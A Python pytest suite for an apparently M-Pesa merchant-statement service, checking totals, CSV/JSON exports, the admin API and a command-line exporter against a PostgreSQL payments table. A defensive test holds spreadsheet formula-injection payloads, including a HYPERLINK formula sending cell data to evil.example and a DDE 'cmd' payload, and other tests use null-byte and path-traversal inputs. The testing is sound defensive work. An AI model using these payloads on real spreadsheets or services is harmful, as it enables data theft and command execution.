"""Merchant statements on the real PostgreSQL: payments made by the real ledger (or written as its
role writes them), read back as the onboarding role, through the module, the admin API and the
command line. What a statement says must be what the payments table says."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import secrets
import subprocess
import sys
import uuid
from datetime import datetime, timedelta, timezone

import aiohttp
import httpx
import pytest
from aiohttp.test_utils import TestClient, TestServer
from hypothesis import given, settings, strategies as st
from multidict import MultiDict

from services.channels.api import create_app
from services.channels.onboarding import NotFound, Onboarding
from services.channels.settings import AdminToken
from services.common.kafka import ConsumedEvent, new_event_fields
from services.common.topics import CALLBACK_RAW, PAYMENT_REQUESTED, STK_PUSH_RESULT
from services.ledger.service import Ledger
from services.operations import statement
from services.operations.statement import (
    COLUMNS,
    BadPeriod,
    Period,
    StatementError,
    Statements,
    csv_cells,
    parse_period,
    parse_query,
    render,
    spreadsheet_safe,
)
from tests.channels.conftest import paybill_body
from tests.conftest import ROOT, database_url_of, eventually, free_port, service_env, start_service
from tests.ledger.callbacks import failure, success
from tests.ledger.fakes import FakeClock

ADMIN_TOKEN = secrets.token_urlsafe(32)
ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
UTC = timezone.utc


# Payments through the real ledger

def _event(topic, schema: str, value: dict) -> ConsumedEvent:
    return ConsumedEvent(topic.name, 0, 0, value["channel_id"].encode(), schema, value)


def requested(channel: str, pid: str, at: datetime | None = None, **overrides) -> ConsumedEvent:
    fields = new_event_fields(channel, pid)
    return _event(PAYMENT_REQUESTED, "payment_requested", {
        **fields, "occurred_at": at or fields["occurred_at"], "amount": 100, "phone": "254712345678",
        "account_reference": "INV1", "description": None, "order_reference": f"order-{pid[:8]}",
        "idempotency_key": None, "metadata": {"note": "not for the merchant's accountants"}, "source": "TOPIC",
        **overrides})


def pushed(channel: str, pid: str, outcome: str = "ACCEPTED", checkout: str | None = None) -> ConsumedEvent:
    return _event(STK_PUSH_RESULT, "stk_push_result", {
        **new_event_fields(channel, pid), "outcome": outcome, "merchant_request_id": "m-1" if checkout else None,
        "checkout_request_id": checkout, "error_code": None if checkout else "400.002.02",
        "error_message": None if checkout else "Bad Request - Invalid PhoneNumber", "attempts": 1})


def callback(channel: str, pid: str, body: bytes) -> ConsumedEvent:
    return _event(CALLBACK_RAW, "callback_raw", {
        **new_event_fields(channel, pid), "received_at": datetime.now(UTC), "source_address": "196.201.212.69",
        "path": "/x", "path_params": {}, "content_type": "application/json", "body": body, "rejection_reason": None})


def receipt() -> str:
    return secrets.token_hex(5).upper()


@pytest.fixture
def ledger(ledger_pool, codec) -> Ledger:
    return Ledger(ledger_pool, codec, clock=FakeClock())


@pytest.fixture
def statements(onboarding_pool) -> Statements:
    return Statements(onboarding_pool.connection)


@pytest.fixture
def onboarding(onboarding_pool, tmp_path) -> Onboarding:
    return Onboarding(onboarding_pool, public_key_file=tmp_path / "unused.pub.json")


@pytest.fixture
async def channel(onboarding, unique) -> str:
    channel_id = f"shop-{unique}"
    await onboarding.create_channel(paybill_body(channel_id), "tests")
    return channel_id


STATES = ("Requested", "Pending", "Settled", "Cancelled", "Failed", "Review")


async def every_outcome(ledger: Ledger, channel: str, amounts: dict[str, int],
                        at: datetime | None = None) -> dict[str, list[str]]:
    """Two payments in each state, made by the ledger from the facts the services send it. The two in
    Review got there differently: a success proven after a cancel (its late receipt kept), and a
    success whose receipt already proves another payment."""
    ids = {state: [str(uuid.uuid4()) for _ in range(2)] for state in STATES}
    receipts = {pid: receipt() for pids in ids.values() for pid in pids}
    first = [requested(channel, pid, at, amount=amounts[state]) for state, pids in ids.items() for pid in pids]
    for state in ("Pending", "Settled", "Cancelled", "Review"):
        first += [pushed(channel, pid, checkout=f"ws_CO_{pid}") for pid in ids[state]]
    first += [pushed(channel, pid, outcome="REFUSED") for pid in ids["Failed"]]
    first += [callback(channel, pid, success(f"ws_CO_{pid}", amount=amounts["Settled"], receipt=receipts[pid]))
              for pid in ids["Settled"]]
    first += [callback(channel, pid, failure(f"ws_CO_{pid}", 1032)) for pid in [*ids["Cancelled"], ids["Review"][0]]]
    late, reused = ids["Review"]
    second = [callback(channel, late, success(f"ws_CO_{late}", amount=amounts["Review"], receipt=receipts[late])),
              callback(channel, reused, success(f"ws_CO_{reused}", amount=amounts["Review"],
                                                receipt=receipts[ids["Settled"][0]]))]
    assert await ledger.handle_batch(first) == []
    assert await ledger.handle_batch(second) == []
    return ids


async def statement_text(statements: Statements, channel: str, period: Period, fmt: str, progress=None) -> str:
    async with statements.open(channel, period) as reader:
        return "".join([chunk async for chunk in render(reader, fmt, progress)])


def around_now(minutes: int = 10) -> Period:
    now = datetime.now(UTC)
    return Period(now - timedelta(minutes=minutes), now + timedelta(minutes=minutes))


async def table_totals(pool, channel: str, period: Period) -> dict[str, dict[str, int]]:
    async with pool.connection() as conn:
        cur = await conn.execute("SELECT state, count(*), sum(amount) FROM payments WHERE channel_id = %s"
                                 " AND requested_at >= %s AND requested_at < %s GROUP BY state",
                                 (channel, period.start, period.end))
        return {state: {"count": count, "amount": int(amount)} for state, count, amount in await cur.fetchall()}


# What a statement says

async def test_a_run_with_every_outcome_totals_as_the_payments_table_does(ledger, statements, pool, channel):
    amounts = {"Requested": 10, "Pending": 200, "Settled": 3_000, "Cancelled": 40_000, "Failed": 500_000,
               "Review": 6}
    ids = await every_outcome(ledger, channel, amounts)
    period = around_now()
    body = json.loads(await statement_text(statements, channel, period, "json"))

    table = await table_totals(pool, channel, period)
    assert {s: t for s, t in body["totals"].items() if t["count"]} == table
    assert set(table) == set(STATES)  # the run really has every outcome
    assert body["totals"]["Settled"] == {"count": 2, "amount": 6_000}
    assert body["successRate"] == round(2 / 6, 4)  # Settled of Settled, Cancelled, Failed; open and Review aside
    assert sorted(p["paymentId"] for p in body["payments"]) == sorted(pid for pids in ids.values() for pid in pids)
    by_id = {p["paymentId"]: p for p in body["payments"]}
    late = by_id[ids["Review"][0]]
    assert late["state"] == "Review" and late["lateMpesaReceipt"] and late["mpesaReceipt"] is None
    assert late["finalAt"] is not None  # it was Cancelled before the proof came
    settled = by_id[ids["Settled"][1]]
    assert settled["mpesaReceipt"] and settled["resultCode"] == "0" and settled["amount"] == 3_000
    assert by_id[ids["Cancelled"][0]]["resultCode"] == "1032"
    assert {by_id[pid]["finalAt"] for pid in ids["Pending"]} == {None}
    assert body["channelId"] == channel and set(body) == {"channelId", "from", "to", "generatedAt", "payments",
                                                           "totals", "successRate"}
    assert [list(p) for p in body["payments"]] == [list(COLUMNS)] * 12
    text = json.dumps(body)
    assert "254712345678" not in text and "not for the merchant" not in text  # no phone, no metadata


async def test_a_payment_requested_at_from_is_in_and_one_at_to_is_out(ledger, statements, channel):
    start = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)
    end = start + timedelta(days=1)
    at = {"before": start - timedelta(microseconds=1), "from": start, "last": end - timedelta(microseconds=1),
          "to": end}
    pids = {name: str(uuid.uuid4()) for name in at}
    assert await ledger.handle_batch([requested(channel, pids[n], moment) for n, moment in at.items()]) == []

    body = json.loads(await statement_text(statements, channel, Period(start, end), "json"))
    assert [p["paymentId"] for p in body["payments"]] == [pids["from"], pids["last"]]  # in requested_at order
    assert body["totals"]["Requested"]["count"] == 2
    assert body["successRate"] is None  # nothing decided: no rate rather than 0 %
    assert datetime.fromisoformat(body["payments"][0]["requestedAt"]) == start
    assert body["payments"][0]["requestedAt"].endswith("+03:00")  # Kenyan time, as M-Pesa statements show


async def test_other_channels_never_appear(ledger, statements, onboarding, channel):
    neighbour = channel + "-2"  # a longer id that starts with this one
    await onboarding.create_channel(paybill_body(neighbour), "tests")
    mine, theirs = await every_outcome(ledger, channel, dict.fromkeys(STATES, 100)), \
        await every_outcome(ledger, neighbour, dict.fromkeys(STATES, 999))
    period = around_now()
    body = json.loads(await statement_text(statements, channel, period, "json"))
    listed = {p["paymentId"] for p in body["payments"]}
    assert listed == {pid for pids in mine.values() for pid in pids}
    assert not listed & {pid for pids in theirs.values() for pid in pids}
    assert {p["amount"] for p in body["payments"]} == {100}


async def test_the_csv_parses_back_to_the_rows_of_the_json(ledger, statements, channel):
    await every_outcome(ledger, channel, {"Requested": 1, "Pending": 2, "Settled": 3, "Cancelled": 4, "Failed": 5,
                                          "Review": 6})
    pid = str(uuid.uuid4())  # text that needs quoting: a comma, a quote, non-ASCII
    await ledger.handle_batch([requested(channel, pid, order_reference='Agizo "la", Wanjirũ; 5')])
    period = around_now()
    payments = json.loads(await statement_text(statements, channel, period, "json"))["payments"]
    text = await statement_text(statements, channel, period, "csv")

    assert text.startswith(",".join(COLUMNS) + "\r\n") and text.count("\r\n") == len(payments) + 1
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    as_text = [{k: "" if v is None else str(v) for k, v in p.items()} for p in payments]
    assert parsed == as_text and len(parsed) == 13


@pytest.mark.parametrize("reference", ['=HYPERLINK("http://evil.example/?"&A1,"invoice")', "+254700000000",
                                       "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"])
async def test_a_formula_in_an_order_reference_is_written_as_text(ledger, statements, channel, reference):
    pid = str(uuid.uuid4())
    await ledger.handle_batch([requested(channel, pid, order_reference=reference)])  # control characters: Failed
    period = around_now()
    row = next(csv.DictReader(io.StringIO(await statement_text(statements, channel, period, "csv"), newline="")))
    assert row["orderReference"] == "'" + reference
    payments = json.loads(await statement_text(statements, channel, period, "json"))["payments"]
    assert payments[0]["orderReference"] == reference  # JSON is data, never run: kept exactly


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=20))
def test_no_csv_text_cell_starts_a_formula_and_only_the_prefix_is_added(text):
    cells = csv_cells((text, text, "Settled", -5, None, None, datetime.now(UTC), None, text))
    for cell in (cells[0], cells[1], cells[8]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
        assert cell == text or cell == "'" + text
    assert cells[3] == -5  # an amount is a number, never prefixed


def test_spreadsheet_safe_leaves_ordinary_text_alone():
    assert [spreadsheet_safe(v) for v in ("ORD-1", "NLJ7RT61SV", "", None, 7)] == ["ORD-1", "NLJ7RT61SV", "", None, 7]


async def test_totals_and_rows_are_one_snapshot_while_payments_keep_coming(ledger, statements, ledger_pool, channel):
    """A payment committed after the statement opened is in neither its totals nor its rows: under
    READ COMMITTED the cursor would see it, and the statement would be cut off as inconsistent."""
    await every_outcome(ledger, channel, dict.fromkeys(STATES, 100))
    period = around_now()
    async with statements.open(channel, period) as reader:
        newcomer = str(uuid.uuid4())
        assert await ledger.handle_batch([requested(channel, newcomer)]) == []
        text = "".join([chunk async for chunk in render(reader, "json")])
    body = json.loads(text)
    assert newcomer not in {p["paymentId"] for p in body["payments"]}
    assert sum(t["count"] for t in body["totals"].values()) == len(body["payments"]) == 12


async def test_rows_that_do_not_add_up_to_the_totals_cut_the_statement_off(ledger, statements, channel, monkeypatch):
    await every_outcome(ledger, channel, dict.fromkeys(STATES, 100))
    monkeypatch.setattr(statement, "_ROWS", statement._ROWS.replace("ORDER BY", "AND state <> 'Review' ORDER BY"))
    with pytest.raises(statement.StatementInconsistent):
        await statement_text(statements, channel, around_now(), "json")


async def test_an_unknown_channel_is_not_found(statements):
    for channel in ("no-such-channel", "bad\x00id", "UPPER", "x" * 65):
        with pytest.raises(NotFound):
            await statement_text(statements, channel, around_now(), "json")


# The period and the query (pure)

@pytest.mark.parametrize("start, end", [
    ("2026-11-01T00:00:00Z", "2026-11-01T00:00:00Z"),  # empty
    ("2026-11-02T00:00:00Z", "2026-11-01T00:00:00Z"),  # backwards
    ("2026-11-01T03:00:00+03:00", "2026-11-01T00:00:00Z"),  # the same instant, spelt twice
    ("2025-01-01T00:00:00Z", "2026-01-02T00:00:01Z"),  # 366 days and a second
    ("2026-11-01", "2026-12-01"), ("2026-11-01T00:00:00", "2026-12-01T00:00:00"),  # no time; no offset
    ("20261101T000000Z", "20261201T000000Z"), ("yesterday", "today"), ("", "2026-12-01T00:00:00Z"),
    ("2026-02-31T00:00:00Z", "2026-03-01T00:00:00Z"), ("2026-11-01T24:00:00Z", "2026-11-03T00:00:00Z"),
    ("0001-01-01T00:00:00+01:00", "0001-01-02T00:00:00Z"), ("9999-12-31T00:00:00Z", "9999-12-31T23:59:59-01:00"),
    ("2026-11-01T00:00:00.1234567Z", "2026-12-01T00:00:00Z"), ("2026-11-01T00:00:00\x00Z", "2026-12-01T00:00:00Z"),
    ("２０２６-11-01T00:00:00Z", "2026-12-01T00:00:00Z"), ("2026-11-01T00:00:00Z" + " " * 100, "2026-12-01T00:00:00Z"),
    (None, "2026-12-01T00:00:00Z"), (["2026-11-01T00:00:00Z"], "2026-12-01T00:00:00Z"),
])
def test_a_bad_period_is_refused_with_why(start, end):
    with pytest.raises(BadPeriod) as refused:
        parse_period(start, end)
    assert refused.value.status == 400 and refused.value.detail


def test_a_year_with_its_leap_day_is_a_period():
    period = parse_period("2027-11-01T00:00:00+03:00", "2028-11-01T00:00:00+03:00")
    assert period.end - period.start == timedelta(days=366)
    assert period.start == datetime(2027, 10, 31, 21, tzinfo=UTC)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.dictionaries(st.sampled_from(["from", "to", "format", "x", "FROM"]), st.text(max_size=40)))
def test_any_query_is_a_period_or_a_refusal_never_an_error(query):
    try:
        period, fmt = parse_query(MultiDict(query))
    except StatementError as refused:
        assert refused.status == 400
    else:
        assert period.start < period.end and fmt in ("json", "csv")


# The admin API

@pytest.fixture
async def client(onboarding, statements):
    app = create_app(onboarding, AdminToken(hashlib.sha256(ADMIN_TOKEN.encode()).digest()), statements=statements)
    async with TestClient(TestServer(app)) as test_client:
        yield test_client


def query_of(period: Period, fmt: str) -> dict[str, str]:
    return {"from": period.start.isoformat(), "to": period.end.isoformat(), "format": fmt}


async def test_the_route_streams_the_statement_as_json_and_as_a_csv_attachment(client, ledger, statements, channel):
    await every_outcome(ledger, channel, dict.fromkeys(STATES, 100))
    period = around_now()
    path = f"/admin/channels/{channel}/statement"
    assert (await client.get(path, params=query_of(period, "json"))).status == 401  # the admin token, as every route

    answer = await client.get(path, params=query_of(period, "json"), headers=ADMIN)
    assert answer.status == 200 and answer.content_type == "application/json"
    assert "Content-Length" not in answer.headers and answer.headers["Transfer-Encoding"] == "chunked"
    body = await answer.json()
    expected = json.loads(await statement_text(statements, channel, period, "json"))
    assert {**body, "generatedAt": None} == {**expected, "generatedAt": None}
    assert datetime.fromisoformat(body["from"]) == period.start

    answer = await client.get(path, params=query_of(period, "csv"), headers=ADMIN)
    assert answer.status == 200 and answer.content_type == "text/csv"
    assert answer.headers["Content-Disposition"] == (
        f'attachment; filename="statement-{channel}-{period.start:%Y%m%dT%H%M%SZ}-{period.end:%Y%m%dT%H%M%SZ}.csv"')
    assert answer.headers["Cache-Control"] == "no-store"
    assert await answer.text() == await statement_text(statements, channel, period, "csv")


GOOD_FROM, GOOD_TO = "2026-11-01T00:00:00Z", "2026-12-01T00:00:00Z"


@pytest.mark.parametrize("query", [
    "", f"?from={GOOD_FROM}", f"?to={GOOD_TO}", f"?from={GOOD_TO}&to={GOOD_FROM}", f"?from={GOOD_FROM}&to={GOOD_FROM}",
    f"?from=2025-01-01T00:00:00Z&to={GOOD_TO}", "?from=yesterday&to=today", "?from=%00&to=%00",
    f"?from=2026-11-01T00:00:00+03:00&to={GOOD_TO}",  # + unencoded is a space
    f"?from={GOOD_FROM}&to={GOOD_TO}&format=xml", f"?from={GOOD_FROM}&to={GOOD_TO}&format=",
    f"?from={GOOD_FROM}&to={GOOD_TO}&format=csv&format=json", f"?from={GOOD_FROM}&from={GOOD_FROM}&to={GOOD_TO}",
    f"?from={GOOD_FROM}&to={GOOD_TO}&limit=5", f"?from={'9' * 7_000}&to={GOOD_TO}", "?from=%ZZ&to=%E2%80%AE",
    f"?from=0001-01-01T00:00:00%2B01:00&to={GOOD_TO}", f"?from={GOOD_FROM}&to=9999-12-31T23:59:59-01:00",
    f"?from=2026-02-30T00:00:00Z&to={GOOD_TO}", f"?from={GOOD_FROM}&to={GOOD_TO}%00",
    f"?from[]={GOOD_FROM}&to={GOOD_TO}", f"?%00={GOOD_FROM}&to={GOOD_TO}",
])
async def test_a_hostile_query_gets_a_400_problem_never_a_500(client, channel, query):
    answer = await client.get(f"/admin/channels/{channel}/statement{query}", headers=ADMIN)
    assert answer.status == 400, await answer.text()
    assert answer.content_type == "application/problem+json" and (await answer.json())["detail"]


@pytest.mark.parametrize("channel_path", ["no-such-channel", "bad%00id", "UPPER", "x" * 300, "%E2%80%AEshop",
                                          "..%2F..%2Fchannels"])
async def test_an_unknown_or_malformed_channel_gets_a_404(client, channel_path):
    answer = await client.get(f"/admin/channels/{channel_path}/statement?from={GOOD_FROM}&to={GOOD_TO}",
                              headers=ADMIN)
    assert answer.status == 404 and answer.content_type == "application/problem+json"


async def test_a_statement_cut_off_mid_stream_never_looks_complete(client, ledger, channel, monkeypatch):
    await every_outcome(ledger, channel, dict.fromkeys(STATES, 100))
    monkeypatch.setattr(statement, "_ROWS", statement._ROWS.replace("ORDER BY", "AND state <> 'Review' ORDER BY"))
    answer = await client.get(f"/admin/channels/{channel}/statement", params=query_of(around_now(), "json"),
                              headers=ADMIN)
    assert answer.status == 200  # sent before the rows: what follows cannot change it
    with pytest.raises(aiohttp.ClientPayloadError):
        await answer.read()


async def test_past_the_exports_at_once_another_is_asked_to_retry(client, channel):
    exports = client.app[statement.EXPORTS]
    for _ in range(statement.EXPORTS_AT_ONCE):
        await exports.acquire()
    try:
        answer = await client.get(f"/admin/channels/{channel}/statement?from={GOOD_FROM}&to={GOOD_TO}", headers=ADMIN)
        assert answer.status == 429 and answer.headers["Retry-After"]
    finally:
        for _ in range(statement.EXPORTS_AT_ONCE):
            exports.release()
    assert (await client.get(f"/admin/channels/{channel}/statement?from={GOOD_FROM}&to={GOOD_TO}",
                             headers=ADMIN)).status == 200


async def test_the_onboarding_service_serves_statements_as_its_own_role(infra, ledger, channel, tmp_path):
    """`python -m services.channels` mounts the route with its pool (the onboarding role's)."""
    token, port = secrets.token_urlsafe(32), free_port()
    env = service_env(infra, ADMIN_PORT=port, ADMIN_TOKEN_SHA256=hashlib.sha256(token.encode()).hexdigest(),
                      VAULT_PUBLIC_KEY_FILE=tmp_path / "absent.pub.json")
    env.pop("ADMIN_TOKEN", None)
    await every_outcome(ledger, channel, dict.fromkeys(STATES, 100))
    service = start_service("services.channels", env)
    try:
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=10,
                                     headers={"Authorization": f"Bearer {token}"}) as http:
            async def healthy() -> bool:
                try:
                    return (await http.get("/healthz")).status_code == 200
                except httpx.TransportError:
                    return False
            await eventually(healthy)
            answer = await http.get(f"/admin/channels/{channel}/statement", params=query_of(around_now(), "json"))
            assert answer.status_code == 200, answer.text
            assert len(answer.json()["payments"]) == 12
    finally:
        service.terminate()
        output = service.communicate(timeout=30)[0]
    assert service.returncode == 0, output


# The command line, and a big statement

BIG = 20_000


async def insert_many(ledger_pool, channel: str, count: int, start: datetime) -> None:
    """`count` payments as the ledger's role writes rows, a millisecond apart from `start`: a quarter
    each Requested, Settled (with receipt), Cancelled and Failed."""
    async with ledger_pool.connection() as conn:
        await conn.execute(
            "INSERT INTO payments (payment_id, channel_id, state, amount, phone, account_reference, order_reference,"
            " requested_at, checkout_request_id, mpesa_receipt, result_code, final_at)"
            " SELECT %(c)s || '-' || i, %(c)s, (ARRAY['Requested', 'Settled', 'Cancelled', 'Failed'])[i %% 4 + 1],"
            " 1 + i %% 1000, '254712345678', 'INV', 'order-' || i, %(start)s + i * interval '1 millisecond',"
            " CASE WHEN i %% 4 IN (1, 2) THEN 'ws_CO_' || %(c)s || '-' || i END,"
            " CASE WHEN i %% 4 = 1 THEN upper(substr(md5(%(c)s || i), 1, 10)) END,"
            " CASE i %% 4 WHEN 1 THEN '0' WHEN 2 THEN '1032' END, CASE WHEN i %% 4 > 0 THEN %(start)s END"
            " FROM generate_series(0, %(n)s - 1) AS i", {"c": channel, "start": start, "n": count})


@pytest.fixture
def run_cli(infra):
    env = {**os.environ, "DATABASE_URL": database_url_of(infra, "onboarding")}

    def run(*args: str, database_url: str | None = None) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "services.cli", "reports", "statement", *args], cwd=ROOT,
                              capture_output=True, text=True, timeout=120,
                              env={**env, **({"DATABASE_URL": database_url} if database_url else {})})
    return run


async def test_a_big_statement_streams_in_slices_with_progress_lines(ledger_pool, pool, statements, channel, run_cli,
                                                                   tmp_path):
    start = datetime.now(UTC) - timedelta(hours=2)
    await insert_many(ledger_pool, channel, BIG, start)
    period = Period(start, start + timedelta(hours=1))

    # Through the module: one slice of rows at a time, never the whole period.
    seen: list[tuple[int, int]] = []
    await statement_text(Statements(statements._connect, slice_rows=1_000), channel, period, "json",
                         lambda done, total: seen.append((done, total)))
    assert seen == [(n, BIG) for n in range(1_000, BIG + 1, 1_000)]

    # Through the command, to a file.
    output = tmp_path / "statement.csv"
    result = run_cli("--channel", channel, "--from", period.start.isoformat(), "--to", period.end.isoformat(),
                     "--format", "csv", "--output", str(output))
    assert result.returncode == 0, result.stderr
    lines = result.stderr.splitlines()
    assert lines[:2] == ["10,000/20,000 payments", "20,000/20,000 payments"]
    assert lines[2].startswith("20,000 payments: Requested 5,000")
    assert "success rate 33.33% of 15,000 decided" in lines[2]
    rows = list(csv.DictReader(output.open(newline="")))
    assert len(rows) == BIG and not list(tmp_path.glob("*.partial")) and result.stdout == ""
    counted: dict[str, dict[str, int]] = {}
    for row in rows:
        total = counted.setdefault(row["state"], {"count": 0, "amount": 0})
        total["count"] += 1
        total["amount"] += int(row["amount"])
    assert counted == await table_totals(pool, channel, period)


async def test_the_command_writes_json_to_stdout(ledger, channel, run_cli):
    await every_outcome(ledger, channel, dict.fromkeys(STATES, 100))
    period = around_now()
    result = run_cli("--channel", channel, "--from", period.start.isoformat(), "--to", period.end.isoformat(),
                     "--format", "json")
    assert result.returncode == 0, result.stderr
    body = json.loads(result.stdout)
    assert len(body["payments"]) == 12 and body["successRate"] == round(2 / 6, 4)
    assert result.stderr.strip().startswith("12 payments")  # a summary; no progress for a short statement


@pytest.mark.parametrize("problem, args", [
    ("no channel", ["--channel", "no-such-channel", "--from", GOOD_FROM, "--to", GOOD_TO, "--format", "csv"]),
    ("from must be before to", ["--channel", "x", "--from", GOOD_TO, "--to", GOOD_FROM, "--format", "csv"]),
    ("RFC 3339", ["--channel", "x", "--from", "1 Nov", "--to", GOOD_TO, "--format", "json"]),
])
def test_the_command_says_what_is_wrong_in_one_line(run_cli, problem, args):
    result = run_cli(*args)
    assert result.returncode == 1 and result.stdout == ""
    assert len(result.stderr.splitlines()) == 1 and problem in result.stderr


def test_the_command_says_in_one_line_that_postgresql_is_unreachable(run_cli, tmp_path):
    output = tmp_path / "statement.csv"
    result = run_cli("--channel", "x", "--from", GOOD_FROM, "--to", GOOD_TO, "--format", "csv", "--output",
                     str(output), database_url=f"postgresql://onboarding@127.0.0.1:{free_port()}/mpesa")
    assert result.returncode == 1 and len(result.stderr.splitlines()) == 1, result.stderr
    assert "PostgreSQL" in result.stderr and "Traceback" not in result.stderr
    assert not output.exists()


def test_the_command_lists_the_formats_in_its_help(run_cli):
    result = run_cli("--help")
    assert result.returncode == 0 and "{json,csv}" in result.stdout


async def test_the_rows_come_from_a_server_side_cursor_a_slice_at_a_time(ledger_pool, statements, channel):
    """Bounded memory: after the first slice the rest of the rows are still in PostgreSQL, behind the
    cursor, not in this process (a client-side cursor would have fetched them all at execute)."""
    start = datetime.now(UTC) - timedelta(hours=3)
    await insert_many(ledger_pool, channel, 2_500, start)
    async with Statements(statements._connect, slice_rows=1_000).open(channel, Period(start, datetime.now(UTC))) \
            as reader:
        sizes = []
        async for rows in reader.slices():
            cursor = await reader._conn.execute("SELECT name FROM pg_cursors")
            assert [name for name, in await cursor.fetchall()] == ["statement"]
            sizes.append(len(rows))
    assert sizes == [1_000, 1_000, 500]


async def test_a_statement_cut_off_leaves_no_file_behind(infra, ledger, channel, monkeypatch, tmp_path):
    await every_outcome(ledger, channel, dict.fromkeys(STATES, 100))
    monkeypatch.setattr(statement, "_ROWS", statement._ROWS.replace("ORDER BY", "AND state <> 'Review' ORDER BY"))
    output = tmp_path / "statement.json"
    with pytest.raises(statement.StatementInconsistent):
        await statement._export(database_url_of(infra, "onboarding"), channel, around_now(), "json", output)
    assert list(tmp_path.iterdir()) == []


async def test_an_empty_period_is_a_statement_with_zero_totals(statements, channel):
    period = around_now()
    body = json.loads(await statement_text(statements, channel, period, "json"))
    assert body["payments"] == [] and body["successRate"] is None
    assert body["totals"] == {state: {"count": 0, "amount": 0} for state in STATES}
    assert await statement_text(statements, channel, period, "csv") == ",".join(COLUMNS) + "\r\n"
